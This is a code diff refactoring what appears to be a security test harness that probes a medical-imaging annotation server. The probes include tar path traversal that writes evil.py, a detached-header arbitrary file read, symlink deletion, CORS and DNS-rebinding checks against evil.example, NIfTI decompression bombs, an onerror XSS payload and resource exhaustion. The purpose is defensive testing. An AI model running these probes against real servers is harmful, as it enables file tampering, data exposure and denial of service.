@@ -24,6 +24,7 @@ import tarfile
 import tempfile
 import threading
 import time
+from functools import partial
 from pathlib import Path
 
 import numpy as np
@@ -105,129 +106,130 @@ def nifti_claiming(shape, payload: bytes = b"") -> bytes:
     return gzip.compress(header.binaryblock + b"\0" * 4 + payload)
 
 
+def _infer(url: str, model: str, params: dict, image: str = "kbp_b", timeout: float = 600) -> str:
+    return answer(
+        requests.post(
+            f"{url}/infer/{model}",
+            params={"image": image, "output": "json"},
+            data={"params": json.dumps(params)},
+            timeout=timeout,
+        )
+    )
+
+
+def _session_tar(url: str, app: Path) -> str:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
+        data = b"print('pwned')\n"
+        member = tarfile.TarInfo("../../app/lib/configs/evil.py")
+        member.size = len(data)
+        tar.addfile(member, io.BytesIO(data))
+    got = requests.put(f"{url}/session/", params={"uncompress": "true"}, files={"files": ("a.tgz", buffer.getvalue())})
+    return answer(got) + ("; evil.py written" if list(app.rglob("evil.py")) else "; nothing written")
+
+
+def _detached(url: str, ct: Path) -> str:
+    header = f"NRRD0004\ntype: short\ndimension: 3\nsizes: 128 128 128\nencoding: gzip\ndata file: {ct}\n\n"
+    files = {"file": ("d.nrrd", header.encode())}
+    return answer(requests.put(f"{url}/datastore/image", params={"image": "detached"}, files=files))
+
+
+def _delete_link(url: str, folder: Path) -> str:
+    target = folder / "shared" / "kbp_link.nii.gz"
+    got = requests.delete(f"{url}/datastore/", params={"id": "kbp_link"}, timeout=60)
+    return answer(got) + ("; target kept" if target.is_file() else "; TARGET DELETED")
+
+
+def _cors(url: str) -> str:
+    got = requests.options(
+        f"{url}/datastore/image",
+        headers={"Origin": "http://evil.example", "Access-Control-Request-Method": "PUT"},
+    )
+    granted = got.headers.get("access-control-allow-origin")
+    return f"{got.status_code}, allow-origin {granted!r}"
+
+
+def _bomb(url: str, shape) -> str:
+    files = {"file": ("b.nii.gz", nifti_claiming(shape))}
+    return answer(requests.put(f"{url}/datastore/image", params={"image": "bomb"}, files=files))
+
+
+def _enqueue(url: str) -> str:
+    codes = [
+        requests.post(f"{url}/train/medlam", params={"enqueue": "true"}, json={"epochs": 1}).status_code
+        for _ in range(6)
+    ]
+    stopped = answer(requests.delete(f"{url}/train/", timeout=60))
+    return f"POST x6: {codes}; DELETE /train/: {stopped}"
+
+
+def _leave(url: str, app: Path) -> str:
+    try:
+        requests.post(
+            f"{url}/infer/sam_3d",
+            params={"image": "kbp_c", "output": "json"},
+            data={"params": json.dumps({"foreground": [[64, 64, 60]], "min_iou": 0})},
+            timeout=2,
+        )
+        return "answered within 2 s"
+    except requests.exceptions.ReadTimeout:
+        pass
+    tic = time.perf_counter()
+    log = app / "logs" / "app.log"
+    while "client is no longer waiting" not in log.read_text() and time.perf_counter() - tic < 300:
+        time.sleep(0.2)
+    return f"client left after 2 s; the server stopped {time.perf_counter() - tic + 2:.1f} s after the request"
+
+
+def _final_label(url: str, label: Path, params: dict | None = None) -> str:
+    extra = {"data": {"params": json.dumps(params)}} if params is not None else {}
+    return answer(
+        requests.put(
+            f"{url}/datastore/label",
+            params={"image": "kbp_b", "tag": "final"},
+            files={"label": ("l.nii.gz", label.read_bytes())},
+            **extra,
+        )
+    )
+
+
 def attacks(url: str, folder: Path, studies: Path, app: Path, ct: Path) -> list[tuple[str, object]]:
-    def infer(model, params, image="kbp_b", timeout=600):
-        return answer(
-            requests.post(
-                f"{url}/infer/{model}",
-                params={"image": image, "output": "json"},
-                data={"params": json.dumps(params)},
-                timeout=timeout,
-            )
-        )
-
-    def session_tar():
-        buffer = io.BytesIO()
-        with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
-            data = b"print('pwned')\n"
-            member = tarfile.TarInfo("../../app/lib/configs/evil.py")
-            member.size = len(data)
-            tar.addfile(member, io.BytesIO(data))
-        got = requests.put(
-            f"{url}/session/", params={"uncompress": "true"}, files={"files": ("a.tgz", buffer.getvalue())}
-        )
-        return answer(got) + ("; evil.py written" if list(app.rglob("evil.py")) else "; nothing written")
-
-    def detached():
-        header = f"NRRD0004\ntype: short\ndimension: 3\nsizes: 128 128 128\nencoding: gzip\ndata file: {ct}\n\n"
-        files = {"file": ("d.nrrd", header.encode())}
-        return answer(requests.put(f"{url}/datastore/image", params={"image": "detached"}, files=files))
-
-    def delete_link():
-        target = folder / "shared" / "kbp_link.nii.gz"
-        got = requests.delete(f"{url}/datastore/", params={"id": "kbp_link"}, timeout=60)
-        return answer(got) + ("; target kept" if target.is_file() else "; TARGET DELETED")
-
-    def cors():
-        got = requests.options(
-            f"{url}/datastore/image",
-            headers={"Origin": "http://evil.example", "Access-Control-Request-Method": "PUT"},
-        )
-        granted = got.headers.get("access-control-allow-origin")
-        return f"{got.status_code}, allow-origin {granted!r}"
-
-    def bomb(shape):
-        files = {"file": ("b.nii.gz", nifti_claiming(shape))}
-        return lambda: answer(requests.put(f"{url}/datastore/image", params={"image": "bomb"}, files=files))
-
-    def enqueue():
-        codes = [
-            requests.post(f"{url}/train/medlam", params={"enqueue": "true"}, json={"epochs": 1}).status_code
-            for _ in range(6)
-        ]
-        stopped = answer(requests.delete(f"{url}/train/", timeout=60))
-        return f"POST x6: {codes}; DELETE /train/: {stopped}"
-
-    def leave():
-        try:
-            requests.post(
-                f"{url}/infer/sam_3d",
-                params={"image": "kbp_c", "output": "json"},
-                data={"params": json.dumps({"foreground": [[64, 64, 60]], "min_iou": 0})},
-                timeout=2,
-            )
-            return "answered within 2 s"
-        except requests.exceptions.ReadTimeout:
-            pass
-        tic = time.perf_counter()
-        log = app / "logs" / "app.log"
-        while "client is no longer waiting" not in log.read_text() and time.perf_counter() - tic < 300:
-            time.sleep(0.2)
-        return f"client left after 2 s; the server stopped {time.perf_counter() - tic + 2:.1f} s after the request"
-
     label = folder / "label300.nii.gz"
+    click = [[64, 64, 60]]
+    xss = {"label_info": [{"name": "<img src=x onerror=alert(1)>", "idx": 300}]}
     return [
-        ("session archive with ../ member (uncompress=true)", session_tar),
-        ("edit: label = a server path", lambda: infer("edit", {"Brainstem": [[64, 64, 60]], "label": str(ct)})),
-        ("detached NRRD header naming a CT elsewhere", detached),
-        ("DELETE a symlinked image", delete_link),
-        ("CORS preflight from http://evil.example", cors),
+        ("session archive with ../ member (uncompress=true)", partial(_session_tar, url, app)),
+        ("edit: label = a server path", partial(_infer, url, "edit", {"Brainstem": click, "label": str(ct)})),
+        ("detached NRRD header naming a CT elsewhere", partial(_detached, url, ct)),
+        ("DELETE a symlinked image", partial(_delete_link, url, folder)),
+        ("CORS preflight from http://evil.example", partial(_cors, url)),
         (
             "Host: evil.example (DNS rebinding)",
             lambda: answer(requests.get(f"{url}/info/", headers={"Host": "evil.example"})),
         ),
         ("GET /logs/", lambda: answer(requests.get(f"{url}/logs/"))),
-        ("70-byte .nii.gz claiming 1000^3 voxels", bomb((1000, 1000, 1000))),
-        ("70-byte .nii.gz claiming 2000^3 voxels", bomb((2000, 2000, 2000))),
+        ("70-byte .nii.gz claiming 1000^3 voxels", partial(_bomb, url, (1000, 1000, 1000))),
+        ("70-byte .nii.gz claiming 2000^3 voxels", partial(_bomb, url, (2000, 2000, 2000))),
         (
             "sam_3d: one voxel foreground and background",
-            lambda: infer("sam_3d", {"foreground": [[64, 64, 60]], "background": [[64, 64, 60]]}),
+            partial(_infer, url, "sam_3d", {"foreground": click, "background": click}),
         ),
-        ("sam_3d: 10,000 clicks", lambda: infer("sam_3d", {"foreground": [[64, 64, 60]] * 10_000})),
-        ("edit: 10,000 clicks", lambda: infer("edit", {"Brainstem": [[64, 64, 60]] * 10_000})),
-        ("medlsam: result_extension .exe", lambda: infer("medlsam", {"result_extension": ".exe"})),
-        ("medlsam: device cuda:99", lambda: infer("medlsam", {"device": "cuda:99"})),
+        ("sam_3d: 10,000 clicks", partial(_infer, url, "sam_3d", {"foreground": click * 10_000})),
+        ("edit: 10,000 clicks", partial(_infer, url, "edit", {"Brainstem": click * 10_000})),
+        ("medlsam: result_extension .exe", partial(_infer, url, "medlsam", {"result_extension": ".exe"})),
+        ("medlsam: device cuda:99", partial(_infer, url, "medlsam", {"device": "cuda:99"})),
         (
             "train medlam: device cuda:99",
             lambda: answer(requests.post(f"{url}/train/medlam", json={"device": "cuda:99"})),
         ),
-        ("train: 6 x enqueue, then DELETE /train/", enqueue),
+        ("train: 6 x enqueue, then DELETE /train/", partial(_enqueue, url)),
         (
             "sam_3d past the time bound (min_iou 0, every slice)",
-            lambda: infer("sam_3d", {"foreground": [[64, 64, 60]], "min_iou": 0}, "kbp_b"),
+            partial(_infer, url, "sam_3d", {"foreground": click, "min_iou": 0}, "kbp_b"),
         ),
-        ("sam_3d, client leaves after 2 s", leave),
-        (
-            "final label with value 300, no label_info",
-            lambda: answer(
-                requests.put(
-                    f"{url}/datastore/label",
-                    params={"image": "kbp_b", "tag": "final"},
-                    files={"label": ("l.nii.gz", label.read_bytes())},
-                )
-            ),
-        ),
-        (
-            "label_info name <img src=x onerror=alert(1)>",
-            lambda: answer(
-                requests.put(
-                    f"{url}/datastore/label",
-                    params={"image": "kbp_b", "tag": "final"},
-                    data={"params": json.dumps({"label_info": [{"name": "<img src=x onerror=alert(1)>", "idx": 300}]})},
-                    files={"label": ("l.nii.gz", label.read_bytes())},
-                )
-            ),
-        ),
+        ("sam_3d, client leaves after 2 s", partial(_leave, url, app)),
+        ("final label with value 300, no label_info", partial(_final_label, url, label)),
+        ("label_info name <img src=x onerror=alert(1)>", partial(_final_label, url, label, xss)),
     ]
 
 
